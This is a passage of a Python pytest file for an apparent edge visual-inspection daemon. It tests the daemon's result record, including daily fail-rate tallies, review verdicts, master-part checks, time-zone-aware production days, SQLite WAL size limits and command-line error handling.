            record.review("c", 3, "defect", after_review_id=bad)


def test_the_daily_tally_counts_decisions_and_what_reviews_found_per_day_camera_and_model(tmp_path, record_url):
    day1 = 1_795_000_000 * 10**9 // (86400 * 10**9) * 86400 * 10**9  # a UTC midnight
    model = {"name": "m", "sha256": "ab" * 32}
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    decisions = ["fail", "fail", "fail", "pass", "pass"]  # day 1, camera a; frame 2 failed as unfit
    for i, decision in enumerate(decisions):
        health = {"ok": i != 2, "reasons": [] if i != 2 else ["exposure", "clipped"]}
        writer.put(_result("a", i, decision, ts_ns=day1 + 3600 * 10**9 * i, health=health), day1)
    writer.put(Result(result_header("a", 5, day1 + 5, "error", 1.0, model, error="bad")), day1)
    writer.put(Result(result_header("a", 6, day1 + 6, "dropped", 1.0, model, error="full")), day1)
    writer.put(_result("b", 0, "pass", ts_ns=day1 + 7), day1)
    no_clock = _result("b", 1, "pass", ts_ns=0)  # a sender without a clock: the receive time stands in
    no_clock.header["ts_ns"], no_clock.recv_ns = 0, day1 + 8
    writer.put(no_clock, day1 + 9)
    writer.put(_result("a", 10, "fail", ts_ns=day1 + 86400 * 10**9 + 1), day1)  # day 2
    writer.event("set-threshold", {"threshold": 2.0}, "ann")
    writer.close()
    record = Record(record_url)
    record.review("a", 0, "defect", kind="scratch")
    record.review("a", 1, "defect")
    record.review("a", 1, "false_reject")  # the latest review decides
    record.review("a", 3, "defect")  # a pass reviewed: a defect the line missed, not a fail's verdict
    with pytest.raises(DataError, match="frame 4 was not rejected \\(decision pass\\): a false_reject is a good part"):
        record.review("a", 4, "false_reject")  # the line rejected nothing to be wrong about
    for frame_id in (5, 6):  # an error and a dropped frame: the line judged nothing to review
        with pytest.raises(DataError, match=f"frame {frame_id} has no decision"):
            record.review("a", frame_id, "defect")
    rows = record.daily()
    assert [(r["day"], r["camera_id"]) for r in rows] == [("2026-11-18", "a"), ("2026-11-18", "b"), ("2026-11-19", "a")]
    a1, b1, a2 = rows
    assert (a1["results"], a1["pass"], a1["fail"], a1["error"], a1["dropped"]) == (7, 2, 3, 1, 1)
    assert a1["fail_rate"] == pytest.approx(3 / 5) and a1["model_sha256"] == "ab" * 32
    # Frame 2's fail is the camera's (too bright): counted as unfit, not as waiting for a verdict.
    assert (a1["false_reject"], a1["defect"], a1["unreviewed"], a1["unfit"]) == (1, 1, 0, 1)
    assert (a1["missed"], b1["missed"], a2["missed"]) == (1, 0, 0)  # frame 3: a pass a person found defective
    assert (b1["results"], b1["fail_rate"], a2["fail"], a2["unreviewed"], a2["unfit"]) == (2, 0.0, 1, 1, 0)
    assert record.results(camera="a", frame_id=2)[0]["unfit"] == "exposure,clipped"
    waiting = record.results(camera="a", decision="fail", reviewed=False)
    assert [r["frame_id"] for r in waiting] == [10]  # the review queue: the gate's fail left to the camera
    assert record.results(camera="b", frame_id=1)[0]["ts_ns"] == day1 + 8
    assert [r["camera_id"] for r in record.daily(camera="b")] == ["b"]
    assert len(record.daily(since_ns=day1 + 86400 * 10**9)) == 1
    if record_url.startswith("sqlite"):  # the command, on a file by its path
        path = sa.make_url(record_url).database
        shown = run_vqad("records", path, "--daily", "--format", "json", "--timezone", "UTC")
        tally = json.loads(shown.stdout)
        assert tally["days"] == json.loads(json.dumps(rows)) and tally["changes"][0]["kind"] == "set-threshold"
        table = run_vqad("records", record_url, "--daily", "--camera", "a", "--timezone", "UTC").stdout
        assert "2026-11-19" in table and "60.00" in table and "1 change(s) to the daemon" in table
        assert "missed" in table.splitlines()[0] and table.splitlines()[1].split()[-4] == "1", table  # then 3 master
        assert "2 day(s) (" in table and "2 row(s) of a day, camera and model" in table, table
        waiting = run_vqad("records", path, "--decision", "fail", "--unreviewed", "--format", "json").stdout
        assert [(r["camera_id"], r["frame_id"]) for r in json.loads(waiting)] == [("a", 10)]
        refused = run_vqad("records", record_url, "--daily", "--decision", "fail", check=False)
        assert refused.returncode == 2 and "--decision selects results to print, and does not apply" in refused.stderr
    record.review("a", 2, "false_reject")  # a person who reviews the gate's fail anyway
    # The gate's fail, reviewed or not, is counted once, in `unfit`: the model rejected nothing.
    assert (record.daily()[0]["false_reject"], record.daily()[0]["unreviewed"]) == (1, 0)
    # The fails by what they were add up to the fails.
    fails = record.daily()[0]["fails"]
    assert fails == {"false_reject": 1, "defect": 1, "unreviewed": 0, "unfit": 1, "master": 0}, fails
    # Its frame, too bright, is no picture of the part: not a good image to train on as good.
    exported = {p.name for p in (tmp_path / "reviewed").rglob("*.png")} if record.export_reviewed(
        tmp_path / "reviewed", camera="a") else set()  # fmt: skip
    assert exported and not any(name.startswith("a_2") for name in exported), exported


def test_a_days_models_are_listed_in_the_order_they_served(tmp_path, record_url):
    """A package put in service at noon: the day's rows were in sha256 order, so the tally and
    the daily picture could name the morning's model as the one the day ended with."""
    from edge.record.trend import daily_picture

    noon = 1_795_000_000 * 10**9 // (86400 * 10**9) * 86400 * 10**9 + 12 * 3600 * 10**9
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    for i, (sha, hour) in enumerate([("ff" * 32, -3), ("00" * 32, 1), ("ff" * 32, -2), ("00" * 32, 2)]):
        result = _result("a", i, "pass", ts_ns=noon + hour * 3600 * 10**9)
        result.header["model"] = {"name": "m", "sha256": sha}
        writer.put(result, noon)
    writer.close()
    rows = Record(record_url).daily()
    assert [(r["model_sha256"][:2], r["results"]) for r in rows] == [("ff", 2), ("00", 2)]
    named = []
    with mock.patch("edge.record.trend._model_line", lambda panel, x, y0, y1, model: named.append(model)):
        daily_picture(rows, "fail rate per day")
    assert named == ["00" * 4]  # its sha256's start


def test_a_mask_set_midday_parts_the_days_tally_and_its_review_queue(tmp_path, record_url):
    """A quality engineer who left a date code out at noon read one fail rate for the day, the
    morning's whole-frame fails and the afternoon's together. The tally parts a day by the model
    as the stream names it, its mask too; each row's review queue holds its own fails."""
    from edge.record.store import WHOLE_FRAME
    from edge.record.trend import daily_picture

    noon = 1_795_000_000 * 10**9 // (86400 * 10**9) * 86400 * 10**9 + 12 * 3600 * 10**9
    mask = "cd" * 32
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    # The morning, through the whole frame: 3 fails of 4; the afternoon, through the mask: 1 of 4.
    for i, (hour, decision) in enumerate([(-4, "fail"), (-3, "fail"), (-2, "fail"), (-1, "pass"),
                                          (1, "fail"), (2, "pass"), (3, "pass"), (4, "pass")]):  # fmt: skip
        result = _result("a", i, decision, ts_ns=noon + hour * 3600 * 10**9)
        if hour > 0:
            result.header["model"] = {**result.header["model"], "mask_sha256": mask}
        writer.put(result, noon)
    writer.close()
    record = Record(record_url)
    record.review("a", 0, "false_reject")  # the date code, in the morning
    rows = record.daily()
    got = [
        (r["mask_sha256"], r["results"], r["fail"], r["fail_rate"], r["false_reject"], r["unreviewed"]) for r in rows
    ]
    assert got == [(None, 4, 3, 0.75, 1, 2), (mask, 4, 1, 0.25, 0, 1)], got  # in the order they served
    assert {r["model_sha256"] for r in rows} == {"ab" * 32}
    whole = record.results(camera="a", decision="fail", reviewed=False, mask_sha256=WHOLE_FRAME)
    masked = record.results(camera="a", decision="fail", reviewed=False, mask_sha256=mask)
    assert sorted(r["frame_id"] for r in whole) == [1, 2] and [r["frame_id"] for r in masked] == [4]
    assert len(record.results(camera="a", decision="fail", reviewed=False)) == 3  # no mask asked: both
    named = []
    with mock.patch("edge.record.trend._model_line", lambda panel, x, y0, y1, model: named.append(model)):
        daily_picture(rows, "fail rate per day")
    assert named == ["abababab+mask"]  # the day the mask came
    if record_url.startswith("sqlite"):
        table = run_vqad("records", record_url, "--daily", "--timezone", "UTC").stdout.splitlines()
        assert [line.split()[2] for line in table[1:3]] == ["abababababab", "abababababab+mask"], table
        assert "(+mask: judged through inspection mask cdcdcdcdcdcd)" in table[-1], table  # what --mask takes
        as_csv = list(csv.DictReader(run_vqad("records", record_url, "--daily", "--format", "csv").stdout.splitlines()))
        assert [(r["mask_sha256"], r["fail"]) for r in as_csv] == [("", "3"), (mask, "1")], as_csv


def test_records_finds_the_results_of_one_model_and_one_mask_by_their_first_digits(tmp_path, record_url):
    """A quality engineer auditing what one model judged, or one inspection mask, copies the 12
    digits the table shows: `vqad records --model`, `--mask` (or none, the whole frame)."""
    old, new, mask = "ab" * 32, "ef" * 32, "cd" * 32
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    for i, (model, masked) in enumerate([(old, False), (old, True), (new, False), (new, True), (new, True)]):
        result = _result("a", i, "fail" if i % 2 else "pass", ts_ns=time.time_ns() - (10 - i) * 10**9)
        result.header["model"] = {"name": "m", "sha256": model, **({"mask_sha256": mask} if masked else {})}
        writer.put(result, result.recv_ns)
    writer.close()

    def frames(*flags: str) -> list[int]:
        shown = run_vqad("records", record_url, *flags, "--format", "json").stdout
        return sorted(r["frame_id"] for r in json.loads(shown))

    assert frames("--model", new[:12]) == [2, 3, 4] and frames("--model", new) == [2, 3, 4]
    assert frames("--mask", mask[:12].upper()) == [1, 3, 4] and frames("--mask", "none") == [0, 2]
    assert frames("--model", old[:4], "--mask", "none") == [0] and frames("--model", "0123abcd") == []
    assert frames("--model", new[:12], "--decision", "fail") == [3]
    refused = run_vqad("records", record_url, "--model", "abc", check=False)  # 3 digits: most models would match
    assert refused.returncode == 2 and "not a sha256 nor its first digits" in refused.stderr
    refused = run_vqad("records", record_url, "--daily", "--mask", "none", "--decision", "fail", check=False)
    assert refused.returncode == 2 and "--decision and --mask select results to print" in refused.stderr
    refused = run_vqad("records", record_url, "--export-sample", str(tmp_path / "s"), "--model", old, check=False)
    assert refused.returncode == 2 and "--model selects results to print, and does not apply" in refused.stderr
    assert not (tmp_path / "s").exists()


def _review_as_an_older_vqad_took_it(record: Record, camera: str, frame_id: int, verdict: str) -> None:
    """A review row written straight into the record, as a vqad that took reviews of master parts
    wrote it."""
    from edge.record.schema import reviews

    with record.engine.begin() as conn:
        where = (results.c.camera_id == camera, results.c.frame_id == frame_id)
        result_id = conn.execute(sa.select(results.c.id).where(*where)).scalar_one()
        conn.execute(sa.insert(reviews).values(camera_id=camera, frame_id=frame_id, verdict=verdict,
                                               created_ns=time.time_ns(), result_id=result_id))  # fmt: skip


def test_master_parts_are_counted_apart_and_wait_for_no_review(tmp_path, record_url, caplog):
    """A shift's red rabbits fail as they must: they were counted among the fails not reviewed,
    and opened in the review queue, at every shift. The record keeps a master part's expected
    decision; the tally counts master parts apart, and the queue leaves them out."""
    day1 = 1_795_000_000 * 10**9 // (86400 * 10**9) * 86400 * 10**9  # a UTC midnight
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    parts = [("SN-1", "fail", None), ("RR-1", "fail", "fail"), ("RR-2", "fail", "fail"), ("OK-1", "pass", "pass"),
             ("RR-3", "pass", "fail"), ("RR-4", "fail", "fail")]  # RR-3 passed; RR-4's frame was frozen  # fmt: skip
    for i, (part, decision, expected) in enumerate(parts):
        unfit = {"ok": False, "reasons": ["frozen"]} if part == "RR-4" else None
        result = _result("a", i, decision, ts_ns=day1 + 60 * 10**9 * i, health=unfit)
        result.header["part_id"] = part
        if expected:
            result.header["master"] = {"expected": expected, "ok": decision == expected}
        writer.put(result, day1)
    writer.close()
    record = Record(record_url)
    assert [r["master"] for r in record.results(camera="a")][::-1] == [None, "fail", "fail", "pass", "fail", "fail"]
    # What each check came to, as the stream names it: a program reads it without the rule.
    outcomes = [r["master_outcome"] for r in record.results(camera="a")][::-1]
    assert outcomes == [None, "right", "right", "right", "wrong", "unproven"], outcomes
    assert [r["part_id"] for r in record.results(camera="a", decision="fail", reviewed=False)] == ["SN-1"]
    # A master part's verdict is known: a red rabbit reviewed as a false reject would be exported
    # to train on as good. Reviews an older vqad took of master parts count as nothing.
    with pytest.raises(DataError, match=r"frame 4 is master part RR-3, whose verdict is known \(it must fail\)"):
        record.review("a", 4, "defect")
    _review_as_an_older_vqad_took_it(record, "a", 4, "defect")  # the red rabbit that passed: no part escaped
    (day,) = record.daily()
    # RR-3 passed: wrong. RR-4 failed as it must, but by the camera health gate: no proof of the
    # model either way.
    counts = ("fail", "master", "master_wrong", "master_unproven", "unreviewed", "missed")
    assert tuple(day[c] for c in counts) == (4, 5, 1, 1, 1, 0), day
    assert day["fail_rate"] == 1.0  # the products': SN-1 alone; the shift's master parts are no rejects of the line
    _review_as_an_older_vqad_took_it(record, "a", 1, "false_reject")  # nothing goes below 0
    (day,) = record.daily()
    assert (day["false_reject"], day["unreviewed"]) == (0, 1), day  # a master part's fail is no false reject
    with caplog.at_level(logging.WARNING, logger="edge.record.store"):
        exported = record.export_reviewed(tmp_path / "reviewed")  # a red rabbit is no good image to train on
    assert exported == {} and not (tmp_path / "reviewed").exists(), exported
    assert "2 reviewed results left out: 2 of a master part (its verdict is known)" in caplog.text, caplog.text
    # The fails by what they were add up to the fails: the red rabbits among the master parts.
    assert day["fails"] == {"false_reject": 0, "defect": 0, "unreviewed": 1, "unfit": 1, "master": 2}, day
    assert [r["part_id"] for r in record.results(master=True)] == ["RR-4", "RR-3", "OK-1", "RR-2", "RR-1"]
    assert [r["part_id"] for r in record.results(master=False)] == ["SN-1"]
    if record_url.startswith("sqlite"):
        table = run_vqad("records", record_url, "--daily", "--timezone", "UTC").stdout.splitlines()
        assert table[0].split()[-3:] == ["master", "wrong", "unjudged"] and table[1].split()[-3:] == ["5", "1", "1"]
        assert "5 master part(s) run through, 1 decided wrongly, 1 not judged by the model" in table[-2], table
        assert table[-2].endswith("; 2 of the fails are theirs, left out of the fail rate"), table
        daily_csv = run_vqad("records", record_url, "--daily", "--format", "csv").stdout.splitlines()
        header = ",master,master_wrong,master_unproven,products_decided,products_failed,mask_sha256"
        assert daily_csv[0].endswith(header), daily_csv
        assert daily_csv[1].endswith(",5,1,1,1,1,"), daily_csv  # SN-1 alone is a product: decided, and failed
        # The line's proofs, for an audit: each master part's check, right or wrong.
        shown = run_vqad("records", record_url, "--master-parts").stdout
        assert "RR-3(master:must-fail,WRONG)" in shown and "OK-1(master:must-pass,right)" in shown, shown
        assert "RR-4(master:must-fail,UNPROVEN) unfit:frozen" in shown, shown  # the gate's fail, no proof
        assert "SN-1" not in shown and shown.strip().endswith("5 results"), shown
        csv_rows = run_vqad("records", record_url, "--master-parts", "--format", "csv").stdout.splitlines()
        first = next(csv.DictReader(csv_rows))
        assert csv_rows[0].endswith(",master,master_outcome,region,mask_sha256,recovered"), csv_rows
        assert (first["master"], first["master_outcome"]) == ("fail", "unproven"), csv_rows
        refused = run_vqad("records", record_url, "--daily", "--master-parts", check=False)
        assert refused.returncode != 0 and "--master-parts selects results to print" in refused.stderr


def test_the_daily_tally_counts_the_lines_days_in_its_zone_from_its_shift_start(tmp_path, record_url):
    """Europe/Berlin from 06:00 over the night summer time began (2026-03-29, 02:00 -> 03:00):
    the night shift's frames belong to the day before, the 23-hour day holds what it held, and
    a review counts in its frame's day."""
    from edge.record.days import ProductionDays

    berlin = ProductionDays.parse("Europe/Berlin", "06:00")
    utc = lambda *when: int(dt.datetime(*when, tzinfo=dt.timezone.utc).timestamp()) * 10**9  # noqa: E731
    frames = [  # (UTC time, decision): local time, the line's day
        (utc(2026, 3, 28, 4, 59), "pass"),  # 05:59 CET: 2026-03-27
        (utc(2026, 3, 28, 5, 0), "fail"),  # 06:00 CET: 2026-03-28
        (utc(2026, 3, 28, 23, 30), "pass"),  # 00:30 CET, the next calendar day: 2026-03-28
        (utc(2026, 3, 29, 3, 59), "fail"),  # 05:59 CEST, after the change: 2026-03-28
        (utc(2026, 3, 29, 4, 0), "pass"),  # 06:00 CEST: 2026-03-29
    ]
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    for frame_id, (ts_ns, decision) in enumerate(frames):
        writer.put(_result("a", frame_id, decision, ts_ns=ts_ns), ts_ns)
    writer.close()
    record = Record(record_url)
    record.review("a", 3, "false_reject")
    rows = record.daily(days=berlin)
    tally = [(r["day"], r["results"], r["fail"], r["false_reject"], r["unreviewed"]) for r in rows]
    assert tally == [("2026-03-27", 1, 0, 0, 0), ("2026-03-28", 3, 2, 1, 1), ("2026-03-29", 1, 0, 0, 0)]
    assert [(r["day"], r["results"]) for r in record.daily()] == [("2026-03-28", 3), ("2026-03-29", 2)]  # UTC days
    since = berlin.start_ns(dt.date(2026, 3, 28))
    assert [r["day"] for r in record.daily(since_ns=since, until_ns=since + 1, days=berlin)] == ["2026-03-28"]
    if record_url.startswith("sqlite"):
        flags = ("--timezone", "Europe/Berlin", "--day-starts", "06:00")
        shown = json.loads(run_vqad("records", record_url, "--daily", "--format", "json", *flags).stdout)
        assert shown["days"] == json.loads(json.dumps(rows))
        assert (shown["timezone"], shown["day_starts"]) == ("Europe/Berlin", "06:00")
        table = run_vqad("records", record_url, "--daily", *flags).stdout
        assert "3 day(s) (Europe/Berlin, from 06:00), 3 row(s)" in table
        by_machine = run_vqad("records", record_url, "--daily", "--format", "json", env={"TZ": "Asia/Tokyo"})
        assert json.loads(by_machine.stdout)["timezone"] == "Asia/Tokyo"  # no flag: the machine's zone
        for bad, why in ((("--timezone", "Europe/Berln"), "unknown time zone"), (("--day-starts", "6:10"), "HH:MM")):
            refused = run_vqad("records", record_url, "--daily", *bad, check=False)
            assert refused.returncode == 2 and why in refused.stderr, refused.stderr
        refused = run_vqad("records", record_url, "--day-starts", "06:00", check=False)
        assert refused.returncode == 2 and "--day-starts sets the days of --daily" in refused.stderr
        listed = run_vqad("records", record_url, "--timezone", "Europe/Berlin").stdout  # times in the line's zone
        assert "2026-03-28 06:00:00+01:00" in listed and "2026-03-29 06:00:00+02:00" in listed
        assert listed.splitlines()[0].split()[:7] == ["time", "camera", "frame", "result", "status", "dec.", "score"]
        # --since without an offset is the line's time, as the table prints it: 06:00 in Berlin.
        since = run_vqad("records", record_url, "--timezone", "Europe/Berlin", "--since", "2026-03-28T06:00").stdout
        assert "4 results" in since and "05:59:00+01:00" not in since
        utc = run_vqad("records", record_url, "--timezone", "UTC", "--since", "2026-03-28T06:00").stdout
        assert "3 results" in utc


def test_a_cameras_newest_results_and_a_parts_are_read_by_their_indexes_in_order(record_url):
    """Record.results(camera=C) merges the newest of each decision (pass, fail, none) and a part's
    results come by the part's index: the same rows, in the same order, as sorting every row,
    and on SQLite without sorting every row of the camera (2.3 s at 2 million results)."""
    from edge.record.schema import migrate, results

    engine = sa.create_engine(record_url)
    migrate(engine)
    rng = np.random.default_rng(3)
    kinds = [("ok", "pass"), ("ok", "fail"), ("error", None), ("dropped", None)]
    rows = []
    for i in range(600):
        status, decision = kinds[rng.choice(4, p=[0.6, 0.2, 0.1, 0.1])]
        rows.append({"camera_id": "ab"[i % 2], "frame_id": i, "ts_ns": int(rng.integers(0, 200)) * 10**6,
                     "status": status, "decision": decision, "score": 1.0, "threshold": 2.0, "model_name": "m",
                     "regions": [], "batch_size": 1, "evidence_removed": False, "part_id": f"SN-{i // 6}"})  # fmt: skip
    with engine.begin() as conn:
        conn.execute(sa.insert(results), rows)
        stored = [dict(r._mapping) for r in conn.execute(sa.select(results.c.id, results.c.camera_id,
                  results.c.frame_id, results.c.ts_ns, results.c.part_id))]  # fmt: skip
    statements = []

    def keep(conn, cursor, sql, params, context, executemany):
        statements.append((sql, params))

    sa.event.listen(engine, "before_cursor_execute", keep)
    record = Record(record_url)
    record.engine = engine

    def expected(limit, since=None, until=None, part=None):
        kept = [r for r in stored if r["camera_id"] == "a" and (since is None or r["ts_ns"] >= since)
                and (until is None or r["ts_ns"] <= until) and (part is None or r["part_id"] == part)]  # fmt: skip
        return [r["frame_id"] for r in sorted(kept, key=lambda r: (-r["ts_ns"], -r["id"]))[:limit]]

    for since, until in ((None, None), (50 * 10**6, None), (None, 120 * 10**6), (30 * 10**6, 31 * 10**6)):
        for limit in (1, 7, 100, 1000):
            got = record.results(camera="a", since_ns=since, until_ns=until, limit=limit)
            assert [r["frame_id"] for r in got] == expected(limit, since, until), (since, until, limit)
    assert {r["status"] for r in record.results(camera="a", limit=1000)} == {"ok", "error", "dropped"}
    got = record.results(camera="a", part_id="SN-4")
    assert [r["frame_id"] for r in got] == expected(100, part="SN-4") and len(got) == 3
    if record_url.startswith("sqlite"):
        statements.clear()
        record.results(camera="a")
        record.results(camera="a", part_id="SN-4")
        sa.event.remove(engine, "before_cursor_execute", keep)
        with engine.connect() as conn:
            plans = [" / ".join(row[3] for row in conn.exec_driver_sql("EXPLAIN QUERY PLAN " + sql, params))
                     for sql, params in statements if "FROM results" in sql and "reviews" not in sql]  # fmt: skip
        assert len(plans) == 2 and "ix_results_camera_frame" not in " ".join(plans), plans
        assert plans[0].count("ix_results_camera_decision_ts") == 3 and "ix_results_part" in plans[1], plans


def test_a_sqlite_records_wal_is_cut_back_after_a_large_expiry(tmp_path):
    """Deleting 20,000 rows at once (an expiry pass) grows the WAL; after the next checkpoint
    it is back to WAL_KEPT_BYTES or less, not kept at its largest for good."""
    from edge.record.schema import migrate, results
    from edge.record.store import WAL_KEPT_BYTES, create_engine

    engine = create_engine(f"sqlite:///{tmp_path / 'line.db'}")
    migrate(engine)
    row = {"camera_id": "c", "ts_ns": 1, "status": "ok", "decision": "pass", "score": 1.0, "threshold": 2.0,
           "model_name": "m", "regions": [], "batch_size": 1, "evidence_removed": False}  # fmt: skip
    with engine.begin() as conn:
        conn.execute(sa.insert(results), [{**row, "frame_id": i, "error": "x" * 200} for i in range(20_000)])
    with engine.begin() as conn:
        conn.execute(sa.delete(results).where(results.c.frame_id < 19_999))
    wal = tmp_path / "line.db-wal"
    grown = wal.stat().st_size
    with engine.begin() as conn:
        conn.exec_driver_sql("PRAGMA wal_checkpoint(PASSIVE)")
    with engine.begin() as conn:
        conn.execute(sa.delete(results))
    assert grown > WAL_KEPT_BYTES >= wal.stat().st_size, (grown, wal.stat().st_size)


def test_a_sqlite_records_wal_stays_bounded_while_readers_never_leave_it(tmp_path, monkeypatch):
    """Two readers that take turns, so that one always holds a snapshot (a dashboard on several
    screens): SQLite's own checkpoints never start the WAL again, and it grew with every row.
    The writer checkpoints it in full past WAL_BOUND_BYTES; every result is still recorded."""
    from edge.record import housekeeping

    bound = 2**19  # past it by a batch of rows (about 170 kB); without the full checkpoints, 5 MB
    monkeypatch.setattr(housekeeping, "WAL_BOUND_BYTES", bound)
    monkeypatch.setattr(housekeeping, "WAL_RETRY_S", 0.2)
    database, n = tmp_path / "line.db", 6_000
    writer = RecordWriter(f"sqlite:///{database}").start()
    stop, largest = threading.Event(), [0]

    def read_in_turns() -> None:
        first, second = (sqlite3.connect(database, isolation_level=None) for _ in range(2))
        while not stop.is_set():
            for opening, closing in ((first, second), (second, first)):
                opening.execute("BEGIN")
                opening.execute("SELECT COUNT(*) FROM results").fetchone()  # holds its snapshot
                if closing.in_transaction:
                    closing.execute("COMMIT")
                largest[0] = max(largest[0], (tmp_path / "line.db-wal").stat().st_size)
                time.sleep(0.01)
        first.close()
        second.close()

    reader = threading.Thread(target=read_in_turns, daemon=True)
    reader.start()
    for i in range(n):
        writer.put(_result("c", i, decision="pass"), time.time_ns())
        if i % 500 == 499:
            time.sleep(0.05)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and writer.recorded < n:
        time.sleep(0.05)
    stop.set()
    reader.join(timeout=10)
    writer.close()
    assert writer.recorded == n
    # One batch of rows over the bound at most: the writer checks after each of its transactions.
    assert largest[0] < 2 * bound, largest[0]


def test_files_that_cannot_be_written_leave_the_rows_and_the_writer_going(tmp_path):
    """A full disk or a folder gone: the results are recorded without evidence (and without the
    writer's state file), counted, and the writer stays alive for the next ones."""
    url = f"sqlite:///{tmp_path / 'line.db'}"
    (tmp_path / "not_a_folder").write_text("")
    state = tmp_path / "not_a_folder" / "record.json"  # nor can the writer's state file be written
    writer = RecordWriter(url, tmp_path / "not_a_folder" / "ev", state_file=state).start()
    for i in range(3):
        writer.put(_result("c", i), time.time_ns())
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and writer.recorded < 3:
        time.sleep(0.05)
    assert writer.thread.is_alive() and writer.recorded == 3
    writer.close()
    rows = Record(url).results(limit=10)
    assert len(rows) == 3 and all(r["evidence"] is None for r in rows)
    assert writer.evidence_failed == 3 and writer.metrics.evidence_failed._value.get() == 3


def test_a_result_the_writer_cannot_store_is_left_out_and_the_writer_goes_on(tmp_path, caplog):
    """A frame no codec takes is recorded without evidence; a result that cannot become a row
    is counted unrecorded. Either used to end the writer's thread for the rest of the run."""
    url = f"sqlite:///{tmp_path / 'line.db'}"
    writer = RecordWriter(url, tmp_path / "ev").start()
    odd = _result("c", 0)
    odd.frame = np.zeros((8, 8, 5), np.float64)  # OpenCV writes 1, 3 or 4 channels
    writer.put(odd, time.time_ns())
    wait_for(lambda: writer.recorded == 1)
    broken = _result("c", 1)
    del broken.header["camera_id"]
    with caplog.at_level(logging.ERROR, "edge.record.writer"):
        writer.put(broken, time.time_ns())
        wait_for(lambda: writer.unrecorded == 1)
    writer.put(_result("c", 2), time.time_ns())
    wait_for(lambda: writer.recorded == 2)
    assert writer.thread.is_alive() and (writer.recorded, writer.unrecorded) == (2, 1)
    writer.close()
    rows = {r["frame_id"]: r for r in Record(url).results(limit=10)}
    assert sorted(rows) == [0, 2] and rows[0]["evidence"] is None and rows[2]["evidence"] is not None
    assert "1 results could not be stored and are left out of the record (KeyError: 'camera_id')" in caplog.text


def test_a_record_that_cannot_be_reached_is_one_line_without_its_password():
    url = f"postgresql://vqad:hunter2@127.0.0.1:{free_loopback_port()}/line"  # nobody listens there
    proc = run_vqad("records", url, check=False)
    assert proc.returncode == 3 and "Traceback" not in proc.stderr
    assert "cannot open the record at postgresql://vqad:***@127.0.0.1" in proc.stderr and "hunter2" not in proc.stderr


def test_a_file_that_is_not_a_database_is_one_line_naming_it(tmp_path):
    """A record path mistyped onto another file: the driver's "file is not a database" came as a
    traceback from records, review and the daemon's start."""
    not_a_database = tmp_path / "line.db"
    not_a_database.write_text("camera_id,frame_id\n")
    with pytest.raises(DataError, match="cannot open the record .*file is not a database"):
        RecordWriter(f"sqlite:///{not_a_database}", tmp_path / "ev")
    for args in (["records", not_a_database], ["review", not_a_database, "c", "1", "--verdict", "defect"]):
        proc = run_vqad(*args, check=False)
        assert proc.returncode == 3 and "Traceback" not in proc.stderr, proc.stderr
        assert "file is not a database" in proc.stderr
    assert not_a_database.read_text() == "camera_id,frame_id\n"
    assert sorted(tmp_path.iterdir()) == [not_a_database]  # not set aside as a damaged record: not the daemon's


def test_exporting_reviews_without_evidence_says_what_was_left_out(tmp_path):
    url = f"sqlite:///{tmp_path / 'line.db'}"
    writer = RecordWriter(url, tmp_path / "ev").start()
    passed, failed = _result("c", 1, decision="pass"), _result("c", 2)
    writer.put(Result(passed.header, recv_ns=passed.recv_ns), time.time_ns())  # kept without its frame
    writer.put(Result(failed.header, recv_ns=failed.recv_ns), time.time_ns())  # a fail's images never written
    writer.close()
    Record(url).review("c", 1, "defect")  # a defect the line passed
    Record(url).review("c", 2, "false_reject")  # a row put back from a killed daemon's journal, say
    proc = run_vqad("records", url, "--export-reviewed", tmp_path / "out")
    assert "no reviewed evidence to export" in proc.stdout and not (tmp_path / "out").exists()
    assert "2 reviewed results left out: 1 without evidence" in proc.stderr
    assert "1 without evidence (none was kept: passes keep it only for edge.record_pass_fraction)" in proc.stderr
    assert "1 without evidence (its images were not written: a full disk, or the daemon ended first)" in proc.stderr


def test_an_export_of_reviews_takes_one_cameras_results_captured_in_a_time(tmp_path):
    """A record keeps the lines of several products. `--export-reviewed DIR --camera` exported
    every camera's reviewed images, silently: one product's model was recalibrated on another's."""
    url = f"sqlite:///{tmp_path / 'line.db'}"
    writer = RecordWriter(url, tmp_path / "ev").start()
    day = 1_795_000_000 * 10**9 // (86400 * 10**9) * 86400 * 10**9  # a UTC midnight
    for camera, frame_id, hour in (("brackets", 1, 1), ("brackets", 2, 30), ("weave", 1, 1)):
        at = day + hour * 3600 * 10**9
        writer.put(_result(camera, frame_id, ts_ns=at), at)
    writer.close()
    record = Record(url)
    for camera, frame_id in (("brackets", 1), ("brackets", 2), ("weave", 1)):
        record.review(camera, frame_id, "defect", kind="crack")
    day_one = ("--since", "2026-11-18T00:00:00Z", "--until", "2026-11-18T23:59:59Z")
    assert dt.datetime.fromtimestamp(day / 1e9, dt.timezone.utc).date() == dt.date(2026, 11, 18)
    run_vqad("records", url, "--export-reviewed", tmp_path / "one", "--camera", "brackets", *day_one)
    assert sorted(p.name for p in (tmp_path / "one").rglob("*.png")) == ["brackets_1.png"]
    the_day = ("--since", "2026-11-18", "--until", "2026-11-18", "--timezone", "UTC")  # a date alone: to its end
    run_vqad("records", url, "--export-reviewed", tmp_path / "day", "--camera", "brackets", *the_day)
    assert sorted(p.name for p in (tmp_path / "day").rglob("*.png")) == ["brackets_1.png"]
    backwards = run_vqad("records", url, "--since", "2026-11-19", "--until", "2026-11-18", check=False)
    assert backwards.returncode == 2 and "--since 2026-11-19 is after --until 2026-11-18" in backwards.stderr
    assert record.export_reviewed(tmp_path / "all") == {"test/crack": 3}
    refused = run_vqad("records", url, "--export-reviewed", tmp_path / "x", "--decision", "fail", check=False)
    assert refused.returncode == 2 and "--decision" in refused.stderr and not (tmp_path / "x").exists()


def test_bad_review_input_is_refused(tmp_path):
    record = Record(f"sqlite:///{tmp_path / 'line.db'}")
    with pytest.raises(Exception, match="verdict"):
        record.review("c", 1, "maybe")
    with pytest.raises(DataError, match="a false_reject has none"):
        record.review("c", 1, "false_reject", kind="scratch")
    # Refused before the database, which SQLite would not do (PostgreSQL would, as a server error).
    for field, value in (("kind", "k" * 65), ("kind", ["scratch"]), ("by", "b" * 129), ("note", "n" * 2001)):
        with pytest.raises(DataError, match=f"a review's {field} is text of at most"):
            record.review("c", 1, "defect", **{field: value})


